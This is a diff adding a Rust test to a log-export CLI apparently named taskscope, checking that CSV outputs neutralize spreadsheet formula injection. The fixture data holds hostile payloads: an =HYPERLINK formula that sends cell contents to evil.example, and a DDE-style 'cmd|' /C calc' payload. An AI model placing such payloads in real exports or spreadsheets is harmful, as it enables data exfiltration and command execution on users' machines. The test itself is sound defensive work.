@@ -333,3 +333,104 @@ fn the_cli_writes_exports_atomically_and_never_overwrites_without_force() {
     let unknown = taskscope(&["export", bundle, "--task", "nope", "--format", "md"]);
     assert_eq!(unknown.status.code(), Some(1));
 }
+
+/// Log lines from the compromised task that a spreadsheet would run as
+/// formulas, and one that is only a number.
+const FORMULA_LOGS: &str = concat!(
+    r#"{"events":["#,
+    r#"{"timestamp":1795183500000,"message":"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")","#,
+    r#""logStreamName":"ecs/app/3f9c2d7e5b1a4c8e9d0f6a2b7c4e1d93","eventId":"formula-1"},"#,
+    r#"{"timestamp":1795183501000,"message":"@SUM(1+1)*cmd|' /C calc'!A0","#,
+    r#""logStreamName":"ecs/app/3f9c2d7e5b1a4c8e9d0f6a2b7c4e1d93","eventId":"formula-2"},"#,
+    r#"{"timestamp":1795183502000,"message":"-1.5","#,
+    r#""logStreamName":"ecs/app/3f9c2d7e5b1a4c8e9d0f6a2b7c4e1d93","eventId":"formula-3"}"#,
+    r#"]}"#
+);
+
+/// Every cell of a CSV text.
+fn csv_cells(text: &str) -> Vec<String> {
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes());
+    reader
+        .records()
+        .flat_map(|record| {
+            record
+                .unwrap()
+                .iter()
+                .map(str::to_string)
+                .collect::<Vec<_>>()
+        })
+        .collect()
+}
+
+#[test]
+fn csv_cells_that_spreadsheets_would_run_are_neutralized_everywhere() {
+    let dir = TempDir::new().unwrap();
+    let root = dir.path().join("bundle");
+    let mut inputs = demo::inputs();
+    inputs.push(Ok(InputFile {
+        source_path: "hostile/cwlogs_formulas.json".into(),
+        bytes: FORMULA_LOGS.as_bytes().to_vec(),
+    }));
+    import_to_bundle(inputs, &root).unwrap();
+    let path = root.to_str().unwrap();
+    annotate(&root, &["--task", demo::COMPROMISED_TASK, "--note", "=1+2"]);
+    annotate(&root, &["--event", REVERSE_SHELL, "--tag", "+tag"]);
+
+    let outputs = [
+        vec!["timeline", path, "--format", "csv"],
+        vec![
+            "timeline",
+            path,
+            "--task",
+            demo::COMPROMISED_TASK,
+            "--format",
+            "csv",
+        ],
+        vec!["export", path, "--all", "--format", "csv"],
+        vec!["export", path, "--format", "csv", "--raw"],
+        vec!["tasks", path, "--format", "csv"],
+        vec!["notes", path, "--format", "csv"],
+    ];
+    for args in outputs {
+        let out = taskscope(&args);
+        assert_eq!(
+            out.status.code(),
+            Some(0),
+            "{args:?}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        let cells = csv_cells(&String::from_utf8(out.stdout).unwrap());
+        for cell in &cells {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+                    || cell == "-"
+                    || cell.parse::<f64>().is_ok(),
+                "{args:?}: a live formula {cell:?}"
+            );
+        }
+        let has = |wanted: &str| cells.iter().any(|c| c == wanted);
+        match args[0] {
+            "timeline" | "export" => {
+                assert!(
+                    has(r#"'=HYPERLINK("http://evil.example/?x="&A1,"click")"#),
+                    "{args:?}"
+                );
+                assert!(has("'@SUM(1+1)*cmd|' /C calc'!A0"), "{args:?}");
+                assert!(has("-1.5"), "{args:?}: a number stays a number");
+            }
+            "notes" => assert!(has("'=1+2") && has("'+tag"), "{cells:?}"),
+            _ => {}
+        }
+    }
+    let export = stdout_of(&["export", path, "--all", "--format", "csv"]);
+    assert!(
+        csv_cells(&export).iter().any(|c| c == "'+tag"),
+        "tags column"
+    );
+}
+
+fn stdout_of(args: &[&str]) -> String {
+    String::from_utf8(taskscope(args).stdout).unwrap()
+}
